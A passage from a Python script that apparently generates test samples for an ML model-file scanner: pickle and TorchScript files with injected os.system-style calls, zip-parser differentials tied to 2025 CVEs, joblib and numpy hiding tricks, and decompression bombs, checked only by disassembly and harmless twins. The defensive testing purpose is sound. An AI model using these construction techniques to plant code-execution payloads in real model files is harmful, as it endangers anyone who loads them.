        torch.jit.save(torch.jit.script(module), buf)
        data = buf.getvalue()
        if drop_debug:
            data = rewrite_torch_zip(data, drop=lambda n: n.endswith(".debug_pkl"))
        return data

    torch.manual_seed(0)
    stock = jit_bytes(torch.nn.Sequential(torch.nn.Linear(4, 2), torch.nn.ReLU()))
    out = {"stock": stock,
           "from_file": jit_bytes(FromFileOnLoad(), drop_debug=True),
           "save": jit_bytes(SaveOnLoad(), drop_debug=True)}
    prepend = os_system_call() + POP
    out["data_pkl_payload"] = rewrite_torch_zip(
        stock, replace={"archive/data.pkl": lambda d: d[:2] + prepend + d[2:]})
    out["no_constants"] = rewrite_torch_zip(
        stock, drop=lambda n: n == "archive/constants.pkl" or n.startswith("archive/constants/"),
        replace={"archive/data.pkl": lambda d: d[:2] + prepend + d[2:]})
    return out


def rewrite_torch_zip(data, drop=lambda n: False, replace=None):
    """Re-write a torch/TorchScript zip with this script's torch-style writer, keeping member order and
    compression method, dropping or replacing some members."""
    replace = replace or {}
    zf = zipfile.ZipFile(io.BytesIO(data))
    ents = []
    for info in zf.infolist():
        if drop(info.filename):
            continue
        body = zf.read(info.filename)
        if info.filename in replace:
            body = replace[info.filename](body)
        ents.append(E(info.filename, body, method=info.compress_type))
    return build_zip(ents)


def torch_state_dict():
    import torch
    torch.manual_seed(0)
    buf = io.BytesIO()
    torch.save(torch.nn.Linear(3, 2).state_dict(), buf)
    return buf.getvalue()


def joblib_samples():
    import joblib
    import numpy as np
    rng = np.random.RandomState(0)
    arrays = {"weights": rng.standard_normal((3, 4)).astype(np.float32),
              "ids": np.arange(5, dtype=np.int64),
              "be": np.arange(3, dtype=">i4"),
              "fortran": np.asfortranarray(np.arange(6, dtype=np.float64).reshape(2, 3))}
    out = {}
    for key, compress in (("plain", 0), ("zlib", ("zlib", 3)), ("gzip", ("gzip", 3)), ("bz2", ("bz2", 3)),
                          ("lzma", ("lzma", 3)), ("xz", ("xz", 3)), ("lz4", ("lz4", 3))):
        buf = io.BytesIO()
        joblib.dump(arrays, buf, compress=compress)
        data = buf.getvalue()
        if key == "gzip":
            assert data[:3] == b"\x1f\x8b\x08" and not data[3] & 0x08   # no file name stored
            data = data[:4] + b"\0\0\0\0" + data[8:]
        out[key] = data
    buf = io.BytesIO()
    joblib.dump({"labels": np.array(["cat", 7, "dog"], dtype=object)}, buf)
    out["object"] = buf.getvalue()
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler
    X = rng.standard_normal((20, 3))
    y = (X[:, 0] + X[:, 1] > 0).astype(np.int64)
    pipe = Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression(random_state=0))]).fit(X, y)
    buf = io.BytesIO()
    joblib.dump(pipe, buf)
    out["sklearn"] = buf.getvalue()
    return out


def numpy_samples():
    import numpy as np
    out = {}

    def save(arr, version=None):
        buf = io.BytesIO()
        if version is None:
            np.save(buf, arr)
        else:
            np.lib.format.write_array(buf, arr, version=version)
        return buf.getvalue()

    floats = np.arange(6, dtype=np.float32).reshape(2, 3)
    objs = np.array(["cat", 7, None], dtype=object)
    out["float"] = save(floats)
    out["float_npy"] = save(np.arange(4, dtype=np.float32))
    out["object"] = save(objs)
    out["v2"] = save(floats, (2, 0))
    out["v3"] = save(np.zeros(2, dtype=[("w\u00e9ight", "<f4"), ("id", "<i4")]), (3, 0))
    for key, fn in (("savez", np.savez), ("savez_compressed", np.savez_compressed)):
        buf = io.BytesIO()
        fn(buf, weights=floats, labels=objs)
        out[key] = fix_zip_times(buf.getvalue())
    return out


def bomb_samples():
    GIB = 1 << 30
    chunk = b"\0" * (1 << 22)

    def zeros_pickle_deflate(total, wbits):
        """Compress PROTO 4 + BINBYTES8(total zeros) + STOP without building it in memory."""
        head = proto(4) + b"\x8e" + struct.pack("<Q", total)
        c = zlib.compressobj(9, zlib.DEFLATED, wbits, 9)
        crc = zlib.crc32(head)
        parts = [c.compress(head)]
        left = total
        while left:
            n = min(left, len(chunk))
            parts.append(c.compress(chunk[:n]))
            crc = zlib.crc32(chunk[:n], crc)
            left -= n
        parts.append(c.compress(STOP))
        crc = zlib.crc32(STOP, crc)
        parts.append(c.flush())
        return b"".join(parts), crc & 0xFFFFFFFF, len(head) + total + 1

    out = {}
    comp, crc, usize = zeros_pickle_deflate(GIB, -15)
    inner = build_zip([E("archive/data.pkl", b"", method=8, comp=comp, crc=crc, usize=usize, lusize=usize),
                       E("archive/version", b"3\n")], style="plain")
    out["nested_zip"] = build_zip([E("inner.zip", inner, method=8)], style="plain")
    # gzip of gzip: inner gzip written by hand around the streamed deflate
    gcomp, gcrc, gsize = zeros_pickle_deflate(GIB, -15)
    inner_gz = (b"\x1f\x8b\x08\x00\0\0\0\0\x02\xff" + gcomp + struct.pack("<II", gcrc, gsize & 0xFFFFFFFF))
    out["gz_gz"] = gz(inner_gz)
    ocomp, ocrc, osize = zeros_pickle_deflate(48 << 20, -15)
    names = ["archive/data.pkl"] + ["archive/data/%d" % k for k in range(23)]
    ents = [E(names[0], b"", method=8, comp=ocomp, crc=ocrc, usize=osize, lusize=osize, descriptor=False,
              flags=0x800)]
    ents += [E(n, b"", method=8, comp=ocomp, crc=ocrc, usize=osize, in_local=False, cd_offset=0,
               descriptor=False, flags=0x800) for n in names[1:]]
    ents.append(E("archive/version", b"3\n"))
    out["overlap"] = build_zip(ents)
    many = [E("archive/extra/%03d" % k, b"", extra=b"") for k in range(560)]
    out["many"] = build_zip(torch_members(BENIGN_STATE, many))
    return out


# --------------------------------------------------------------------------- validation
def genops_all(data):
    """Disassemble (never execute) every pickle in data; return the number of pickles."""
    f = io.BytesIO(data)
    count = 0
    while f.tell() < len(data):
        last = None
        for op, _arg, _pos in pickletools.genops(f):
            last = op.name
        if last != "STOP":
            raise ValueError("no STOP")
        count += 1
    return count


def genops_one(data):
    """Disassemble one pickle from the start; return (opcode names, end offset)."""
    f = io.BytesIO(data)
    names = [op.name for op, _a, _p in pickletools.genops(f)]
    return names, f.tell()


def member_pickles_ok(name, body):
    """Every member that starts like a pickle (\\x80 or 'c') must disassemble, except the designed-broken
    nullifAI payload."""
    looks = body[:1] == b"\x80" or (body[:1] == b"c" and not name.endswith(".py"))
    if looks and b"garbage, no STOP" not in body and not name.endswith("/data/0"):
        genops_all(body)


def validate(s):
    """Structural checks with pickletools.genops / zipfile / tarfile: nothing is ever unpickled."""
    data, check, name = s["data"], s["check"], s["name"]
    assert len(data) <= MAX_SIZE, (name, len(data))
    if check == "pickle":
        assert genops_all(data) == 1, name
    elif check == "pickles":
        f = io.BytesIO(data)
        for _ in range(5):
            assert [op.name for op, _a, _p in pickletools.genops(f)][-1] == "STOP", name
        rest = f.read()
        assert rest == LEGACY_STORAGES or genops_all(rest) >= 1, name
    elif check == "pickles-tail":
        f = io.BytesIO(data)
        for _ in range(5):
            list(pickletools.genops(f))
        f.seek(len(LEGACY_STORAGES), 1)
        assert genops_all(f.read()) == 1, name
    elif check == "zip":
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            for info in zf.infolist():
                member_pickles_ok(info.filename, zf.read(info))
    elif check == "zip-raw":
        # the archive is malformed on purpose for CPython's zipfile; check the end record exists
        assert b"PK\x05\x06" in data[-200:] or b"PK\x05\x06" in data, name
    elif check == "polyglot":
        names, end = genops_one(data)
        assert names[-1] == "STOP" and data[end:end + 4] == b"PK\x03\x04", name
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            genops_all(zf.read("archive/data.pkl"))
    elif check == "tar":
        with tarfile.open(fileobj=io.BytesIO(data)) as tf:
            names = tf.getnames()
            assert names, name
            for m in tf.getmembers():
                body = tf.extractfile(m).read()
                if m.name in ("pickle", "sys_info"):
                    genops_all(body)
                elif m.name.endswith(".pt"):
                    with zipfile.ZipFile(io.BytesIO(body)) as zf:
                        genops_all(zf.read("archive/data.pkl"))
    elif check in ("gzip", "bz2", "xz", "lzma", "zlib", "lz4", "zstd"):
        if name.startswith("bomb_"):
            assert data[:2] == b"\x1f\x8b", name
            return
        body = unwrap(check, data)
        while body[:2] == b"\x1f\x8b":
            body = gzip.decompress(body)
        if name.endswith(".tar.gz"):
            with tarfile.open(fileobj=io.BytesIO(body)) as tf:
                assert tf.getnames(), name
        elif name.startswith("joblib_"):
            assert body.startswith(proto(4)), name
        else:
            assert genops_all(body) == 1, name
    elif check == "zf":
        hdr = 2 + len("{:#x}".format(2 ** 64))
        assert genops_all(zlib.decompress(data[hdr:])) == 1, name
    elif check == "joblib":
        assert data.startswith(proto(4) + FRAME), name
    elif check == "npy":
        hlen_fmt = "<H" if data[6] == 1 else "<I"
        hlen = struct.unpack_from(hlen_fmt, data, 8)[0]
        start = 8 + struct.calcsize(hlen_fmt) + hlen
        assert start % 64 == 0, name
        assert genops_all(data[start:]) == 1, name
    elif check == "7z":
        assert data[:6] == b"7z\xbc\xaf\x27\x1c", name
    elif check == "benign":
        pass   # loaded back with the real library in verify()
    else:
        raise AssertionError(check)


def unwrap(kind, data):
    if kind == "gzip":
        return gzip.decompress(data)
    if kind == "bz2":
        return bz2.decompress(data)
    if kind in ("xz", "lzma"):
        return lzma.decompress(data)
    if kind == "zlib":
        return zlib.decompress(data)
    if kind == "lz4":
        import lz4.frame
        return lz4.frame.decompress(data)
    if kind == "zstd":
        return subprocess.run(["zstd", "-d", "-q", "-c"], input=data, check=True, stdout=subprocess.PIPE).stdout
    raise AssertionError(kind)


# --------------------------------------------------------------------------- verification with the real loaders
def verify(samples):
    """Prove the reader differentials and load every benign sample with its library.

    Attack files are only ever opened with readers that return bytes (torch's PyTorchFileReader,
    zipfile, tarfile); code that executes pickles only sees benign samples and harmless twins."""
    import warnings
    import joblib
    import numpy as np
    import torch
    warnings.simplefilter("ignore")
    by_name = {s["name"]: s["data"] for s in samples}
    problems = []

    def expect(cond, what):
        if not cond:
            problems.append(what)

    def torch_record(data, rec="data.pkl"):
        try:
            r = torch._C.PyTorchFileReader(io.BytesIO(data))
            return bytes(r.get_record(rec))
        except Exception as e:   # noqa: BLE001 - report any reader failure
            return "ERR: " + str(e).splitlines()[0]

    def py_record(data, name="archive/data.pkl"):
        try:
            with zipfile.ZipFile(io.BytesIO(data)) as zf:
                return zf.read(name)
        except Exception as e:   # noqa: BLE001
            return "ERR: %r" % e

    # 0. the torch-style writer reproduces torch.save byte for byte
    tsd = torch_state_dict()
    with zipfile.ZipFile(io.BytesIO(tsd)) as zf:
        rebuilt = build_zip([E(n, zf.read(n)) for n in zf.namelist()])
    expect(rebuilt == tsd, "torch-style writer differs from torch.save output")

    # 1. zip differentials: what torch (miniz) and CPython's zipfile return for data.pkl
    table = [
        ("cve-2025-1944_zip_name_mismatch_central_payload.pt", PAYLOAD_STATE, "ERR"),
        ("cve-2025-1944_zip_name_mismatch_local_payload.pt", BENIGN_STATE, BENIGN_STATE),
        ("cve-2025-1945_flag_0x1_encrypted.pt", "ERR", "ERR"),
        ("cve-2025-1945_flag_0x20_patched_data.pt", "ERR", "ERR"),
        ("cve-2025-1945_flag_0x40_strong_encryption.pt", "ERR", "ERR"),
        ("cve-2025-1945_flag_0x1_local_header_only.pt", PAYLOAD_STATE, PAYLOAD_STATE),
        ("cve-2025-10156_bad_crc.pt", PAYLOAD_STATE, "ERR"),
        ("cve-2025-10156_zero_crc.pt", PAYLOAD_STATE, "ERR"),
        ("tech_zip_deflated_bad_crc.pt", PAYLOAD_STATE, "ERR"),
        ("benign_torch_zip_crc32_disabled.pt", BENIGN_STATE, "ERR"),
        ("tech_zip_name_mismatch_benign.pt", BENIGN_STATE, "ERR"),
        ("tech_zip_duplicate_names_benign_first.pt", BENIGN_STATE, PAYLOAD_STATE),
        ("tech_zip_duplicate_names_payload_first.pt", PAYLOAD_STATE, BENIGN_STATE),
        ("tech_zip_uppercase_data_pkl.pt", PAYLOAD_STATE, "ERR"),
        ("tech_zip_deflated_data_pkl.pt", PAYLOAD_STATE, PAYLOAD_STATE),
        ("tech_zip64_eocd_two_central_directories.pt", PAYLOAD_STATE, BENIGN_STATE),
        ("tech_zip_cd_count_lie_hides_entry.pt", PAYLOAD_STATE, BENIGN_STATE),
        ("tech_zip_cd_count_too_large_benign.pt", "ERR", BENIGN_STATE),
        ("tech_zip_orphan_local_entry.pt", BENIGN_STATE, BENIGN_STATE),
        ("tech_zip_prepended_junk.pt", "ERR", PAYLOAD_STATE),
        ("tech_zip_zipcrypto_encrypted_data_pkl.pt", "ERR", "ERR"),
        ("limits_zip_claims_200000_entries.pt", "ERR", BENIGN_STATE),
        ("tech_polyglot_payload_pickle_then_benign_zip.pt", BENIGN_STATE, BENIGN_STATE),
        ("tech_zip_gap_between_members.pt", BENIGN_STATE, BENIGN_STATE),
        ("tech_zip_data_after_eocd.pt", BENIGN_STATE, BENIGN_STATE),
    ]
    for name, want_torch, want_py in table:
        got_t, got_p = torch_record(by_name[name]), py_record(by_name[name])
        for who, got, want in (("torch", got_t, want_torch), ("zipfile", got_p, want_py)):
            ok = (isinstance(got, str) and got.startswith("ERR")) if want == "ERR" else got == want
            expect(ok, "%s: %s gave %r" % (name, who, got if isinstance(got, str) else got[-20:]))
    with zipfile.ZipFile(io.BytesIO(by_name["tech_zip_zipcrypto_encrypted_data_pkl.pt"])) as zf:
        expect(zf.read("archive/data.pkl", pwd=b"brine-test") == BENIGN_STATE, "zipcrypto does not decrypt")
    r = torch._C.PyTorchFileReader(io.BytesIO(by_name["tech_zip_outside_prefix_data_pkl.pt"]))
    expect(bytes(r.get_record("data.pkl")) == BENIGN_STATE, "outside-prefix: torch data.pkl")
    try:
        r.get_all_records()
        problems.append("outside-prefix: get_all_records did not raise")
    except RuntimeError:
        pass
    r = torch._C.PyTorchFileReader(io.BytesIO(by_name["cve-2025-1889_pickle_member_txt_extension.pt"]))
    expect(bytes(r.get_record("config.txt")) == PAYLOAD, "1889: torch cannot fetch config.txt")
    r = torch._C.PyTorchFileReader(io.BytesIO(by_name["bomb_zip_overlapping_entries.pt"]))
    expect(len(r.get_all_records()) == 25, "overlap: torch does not list 24 + version entries")
    expect(len(bytes(r.get_record("data/5"))) == (48 << 20) + 12, "overlap: torch does not inflate data/5")

    # 2. harmless twins through the real loaders
    tmp = tempfile.mkdtemp(prefix="brinetwin")
    try:
        def load_path(data, fn, suffix=".pt"):
            path = os.path.join(tmp, "twin" + suffix)
            with open(path, "wb") as fh:
                fh.write(data)
            return fn(path)

        twin_pre = harmless_call() + POP
        for label, parts in (("magic", dict(magic=legacy_magic(twin_pre))),
                             ("protocol", dict(protocol=legacy_protocol(twin_pre))),
                             ("sys_info", dict(sys_info=legacy_sys_info(twin_pre))),
                             ("object", dict(obj=legacy_object([(xu("brine"), harmless_call())]))),
                             ("keys", dict(keys=legacy_keys(twin_pre)))):
            res = load_path(legacy_file(**parts), torch.load)
            expect(res["weight"].tolist() == [0.0, 1.0, 2.0, 3.0], "legacy twin %s" % label)
        res = load_path(legacy_file(tail=p2(harmless_call())), torch.load)
        expect(res["weight"].tolist() == [0.0, 1.0, 2.0, 3.0], "legacy twin with tail")
        res = load_path(by_name["benign_tar_legacy_state_dict.pt"], torch.load)
        expect(res["weight"].tolist() == [0.0, 1.0, 2.0, 3.0], "ancient tar benign")
        twin_tar = tar_bytes(tar_legacy_members(
            p2(od((xu("weight"), xu(str(TAR_TENSOR_KEY)) + BINPERSID), (xu("brine"), harmless_call()))),
            storages_pre=twin_pre), tarfile.PAX_FORMAT)
        res = load_path(twin_tar, torch.load)
        expect(res["brine"] == len(CMD), "ancient tar twin")
        twin_name = glob("builtins", "len") + MARK + s0(CMD) + TUPLE + REDUCE + STOP
        twin_poly = tar_bytes([(twin_name.decode("ascii"), b"")] + tar_legacy_members(), tarfile.USTAR_FORMAT)
        res = load_path(twin_poly, torch.load)
        expect(res["weight"].tolist() == [0.0, 1.0, 2.0, 3.0], "tar/pickle polyglot twin: torch.load")
        import pickle
        expect(pickle.loads(twin_poly) == len(CMD), "tar/pickle polyglot twin: pickle.load")
        twin_zip = build_zip(torch_members(TWIN_STATE), lead=p2(harmless_call()))
        try:
            load_path(twin_zip, torch.load)
            problems.append("pickle-then-zip twin: torch.load did not fail")
        except RuntimeError as e:
            expect("magic number" in str(e), "pickle-then-zip twin: %s" % e)
        res = load_path(build_zip([E("archive/DATA.PKL", TWIN_STATE), E("archive/data/0", FLOATS),
                                   E("archive/version", b"3\n")]), torch.load)
        expect(res["brine"] == len(CMD), "uppercase twin")
        res = load_path(zip64_two_central_directories(TWIN_STATE, BENIGN_STATE), torch.load)
        expect(res.get("brine") == len(CMD), "zip64 two-CD twin")
        res = load_path(torch_zip(BENIGN_STATE, [E("archive/config.txt", p2(harmless_call()))]),
                        lambda p: torch.load(p, pickle_file="config.txt"))
        expect(res == len(CMD), "1889 twin: pickle_file=config.txt")

        # TorchScript: __setstate__ runs during torch.jit.load (twin prints instead of touching files)
        ts = torchscript_samples()
        expect(torch.jit.load(io.BytesIO(ts["stock"]))(torch.ones(1, 4)).shape == (1, 2), "stock TorchScript")
        with zipfile.ZipFile(io.BytesIO(ts["from_file"])) as zf:
            code = b"".join(zf.read(n) for n in zf.namelist() if n.endswith(".py"))
            expect(b"torch.from_file" in code and b"__setstate__" in code, "from_file not in code/")
            expect(not any(n.endswith(".debug_pkl") for n in zf.namelist()), "debug_pkl kept")
        with zipfile.ZipFile(io.BytesIO(ts["save"])) as zf:
            code = b"".join(zf.read(n) for n in zf.namelist() if n.endswith(".py"))
            expect(b"torch.save" in code, "save not in code/")
        twin_ts = twin_torchscript()
        import subprocess as sp
        proc = sp.run([sys.executable, "-c",
                       "import io,sys,torch; torch.jit.load(io.BytesIO(sys.stdin.buffer.read()))"],
                      input=twin_ts, stdout=sp.PIPE, stderr=sp.PIPE)
        expect(b"brine-twin-setstate" in proc.stdout, "TorchScript twin: __setstate__ did not run at load")
        proc = sp.run([sys.executable, "-c",
                       "import io,sys,torch,warnings; warnings.simplefilter('ignore'); "
                       "torch.load(io.BytesIO(sys.stdin.buffer.read()), weights_only=True)"],
                      input=twin_ts, stdout=sp.PIPE, stderr=sp.PIPE)
        expect(b"brine-twin-setstate" in proc.stdout,
               "TorchScript twin: torch.load(weights_only=True) did not dispatch to jit.load")

        # joblib: padding-region differential on a twin that prints instead of calling os.system
        twin_call = glob("builtins", "print") + xu("brine-twin-hidden") + TUPLE1 + REDUCE + POP
        twin_jl = joblib_dict_stream(hidden=joblib_hidden_region(twin_call))
        code = ("import io,sys,pickle,joblib; d=sys.stdin.buffer.read(); "
                "r=joblib.load(io.BytesIO(d)); print('JOBLIB', r['weights'].tobytes()); "
                "r=pickle.loads(d); print('PICKLE', type(r).__name__)")
        proc = sp.run([sys.executable, "-c", code], input=twin_jl, stdout=sp.PIPE, stderr=sp.PIPE)
        lines = proc.stdout.decode().splitlines()
        expect(lines[:1] == ["JOBLIB b'N0N0N0N0N0N0N0N0'"] and lines[1:2] == ["brine-twin-hidden"]
               and lines[2:3] == ["PICKLE ndarray"], "joblib differential twin: %r %r" % (lines, proc.stderr[-300:]))
        benign_jl = joblib_dict_stream()
        r = joblib.load(io.BytesIO(benign_jl))
        expect(r["weights"].tolist() == [0.0, 1.0, 2.0, 3.0] and r["classes"].tolist() == ["cat", "dog"],
               "hand-made joblib stream")
        for comp in (zlib_compressobj, lz4_frame, lambda d: lzma.compress(d, format=lzma.FORMAT_XZ)):
            r = joblib.load(io.BytesIO(comp(benign_jl)))
            expect(r["classes"].tolist() == ["cat", "dog"], "compressed hand-made joblib")
        zf_twin = (b"ZF" + ("{:#x}".format(len(p2(harmless_call())))).encode().ljust(19)
                   + zlib.compress(p2(harmless_call()), 1))
        expect(load_path(zf_twin, joblib.load, ".pkl") == len(CMD), "ZF compat twin")
        twin_obj = joblib_dict_stream(object_payload=np_object_array_pickle(xu("cat"), harmless_call()))
        expect(joblib.load(io.BytesIO(twin_obj))["classes"].tolist() == ["cat", len(CMD)], "object-array twin")

        # numpy: hand-made header + twin object pickle
        for version in ((1, 0), (2, 0), (3, 0)):
            twin_npy = npy_header("|O", (2,), version) + npy_object_array_pickle(xu("cat"), harmless_call())
            expect(np.load(io.BytesIO(twin_npy), allow_pickle=True).tolist() == ["cat", len(CMD)],
                   "npy twin %s" % (version,))

        # 3. benign samples through their own libraries
        import lz4.frame
        for key in ("plain", "zlib", "gzip", "bz2", "lzma", "xz", "lz4"):
            r = joblib.load(io.BytesIO(by_name["benign_joblib_arrays_%s.joblib" % key]))
            expect(sorted(r) == ["be", "fortran", "ids", "weights"] and r["ids"].tolist() == [0, 1, 2, 3, 4],
                   "benign joblib %s" % key)
        expect(joblib.load(io.BytesIO(by_name["benign_joblib_object_array.joblib"]))["labels"].tolist()
               == ["cat", 7, "dog"], "benign joblib object")
        pipe = joblib.load(io.BytesIO(by_name["benign_joblib_sklearn_pipeline.joblib"]))
        expect(pipe.predict(np.ones((1, 3))).shape == (1,), "sklearn pipeline")
        expect(np.load(io.BytesIO(by_name["benign_np_save_float.npy"])).shape == (2, 3), "npy float")
        expect(np.load(io.BytesIO(by_name["benign_np_save_object.npy"]), allow_pickle=True).tolist()
               == ["cat", 7, None], "npy object")
        expect(np.load(io.BytesIO(by_name["benign_np_save_v2.npy"])).shape == (2, 3), "npy v2")
        expect(np.load(io.BytesIO(by_name["benign_np_save_v3.npy"])).dtype.names == ("w\u00e9ight", "id"), "npy v3")
        for key in ("benign_np_savez.npz", "benign_np_savez_compressed.npz"):
            with np.load(io.BytesIO(by_name[key]), allow_pickle=True) as z:
                expect(z["labels"].tolist() == ["cat", 7, None] and z["weights"].shape == (2, 3), key)
        with zipfile.ZipFile(io.BytesIO(by_name["npz_benign_and_payload_member.npz"])) as zf:
            w = np.load(io.BytesIO(zf.read("weights.npy")))   # the benign member only
            expect(w.tolist() == [0.0, 1.0, 2.0, 3.0], "npz payload sample: benign member")
        sd_keys = ["weight", "bias"]
        with tarfile.open(fileobj=io.BytesIO(by_name["benign_torch_state_dict.tar"])) as tf:
            expect(list(torch.load(io.BytesIO(tf.extractfile("model/pytorch_model.pt").read()))) == sd_keys, "tar")
        with tarfile.open(fileobj=io.BytesIO(gzip.decompress(by_name["benign_torch_state_dict.tar.gz"]))) as tf:
            expect(list(torch.load(io.BytesIO(tf.extractfile("model/pytorch_model.pt").read()))) == sd_keys, "tgz")
        expect(list(torch.load(io.BytesIO(gzip.decompress(by_name["benign_torch_state_dict.pt.gz"])))) == sd_keys,
               "pt.gz")
        expect(list(torch.load(io.BytesIO(unwrap("zstd", by_name["benign_torch_state_dict.pt.zst"])))) == sd_keys,
               "pt.zst")
        xdir = os.path.join(tmp, "x7")
        for name, member in (("benign_torch_state_dict.7z", "pytorch_model.bin"),):
            path = os.path.join(tmp, name)
            with open(path, "wb") as fh:
                fh.write(by_name[name])
            sp.run(["7zz", "x", "-bd", "-bso0", "-o" + xdir, path], check=True)
            expect(list(torch.load(os.path.join(xdir, member))) == sd_keys, "7z")
        for name in ("nullifai_7z_torch_folder_broken_pickle.bin", "nullifai_7z_copy_torch_zip_broken_pickle.7z"):
            path = os.path.join(tmp, "n.7z")
            with open(path, "wb") as fh:
                fh.write(by_name[name])
            listing = sp.run(["7zz", "l", "-slt", path], check=True, stdout=sp.PIPE).stdout
            expect(b"data.pkl" in listing or b"pytorch_model.bin" in listing, name)
    finally:
        shutil.rmtree(tmp)
    return problems


def twin_torchscript():
    """A TorchScript module whose __setstate__ prints (harmless): proves __setstate__ runs at load."""
    import torch
    from typing import Tuple
    from torch import Tensor

    class PrintOnLoad(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.scale = torch.ones(2)

        def forward(self, x: Tensor) -> Tensor:
            return x * self.scale

        @torch.jit.export
        def __getstate__(self) -> Tuple[Tensor, bool]:
            return (self.scale, self.training)

        @torch.jit.export
        def __setstate__(self, state: Tuple[Tensor, bool]) -> None:
            self.scale = state[0]
            self.training = state[1]
            print("brine-twin-setstate")

    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(PrintOnLoad()), buf)
    return buf.getvalue()


# --------------------------------------------------------------------------- main
def main():
    if os.environ.get("PYTHONHASHSEED") != "0":
        # torch.jit.script emits a module's Final constants in set order: pin str hashing so the
        # TorchScript samples are byte-identical from run to run.
        env = dict(os.environ, PYTHONHASHSEED="0")
        os.execve(sys.executable, [sys.executable, os.path.abspath(__file__)] + sys.argv[1:], env)
    build_samples()
    names = [s["name"] for s in SAMPLES]
    dupes = sorted({n for n in names if names.count(n) > 1})
    if dupes:
        sys.exit("duplicate sample names: %s" % dupes)
    for s in SAMPLES:
        validate(s)
    if "--verify" in sys.argv:
        problems = verify(SAMPLES)
        if problems:
            sys.exit("verification failed:\n  " + "\n  ".join(problems))
        print("verified reader behaviour and benign samples")

    os.makedirs(OUT_DIR, exist_ok=True)
    if os.path.exists(MANIFEST):
        with open(MANIFEST) as fh:
            old = json.load(fh).get("samples", [])
        for entry in old:
            path = os.path.join(HERE, entry["path"])
            if os.path.basename(path) not in names and os.path.isfile(path):
                os.remove(path)
    manifest = []
    for s in SAMPLES:
        with open(os.path.join(OUT_DIR, s["name"]), "wb") as fh:
            fh.write(s["data"])
        entry = {"path": "containers/" + s["name"], "expect": s["expect"], "with_packs": s["with_packs"],
                 "must_report": s["must_report"], "technique": s["technique"]}
        if s["advisory"]:
            entry["advisory"] = s["advisory"]
        entry["source"] = "make_containers.py"
        entry["note"] = s["note"]
        manifest.append(entry)
    with open(MANIFEST, "w") as fh:
        json.dump({"samples": manifest}, fh, indent=1, ensure_ascii=False)
        fh.write("\n")
    counts = {}
    for s in SAMPLES:
        counts[s["expect"]] = counts.get(s["expect"], 0) + 1
    print("wrote %d samples to %s (%s)" % (len(SAMPLES), OUT_DIR,
                                          ", ".join("%s=%d" % kv for kv in sorted(counts.items()))))


if __name__ == "__main__":
    main()
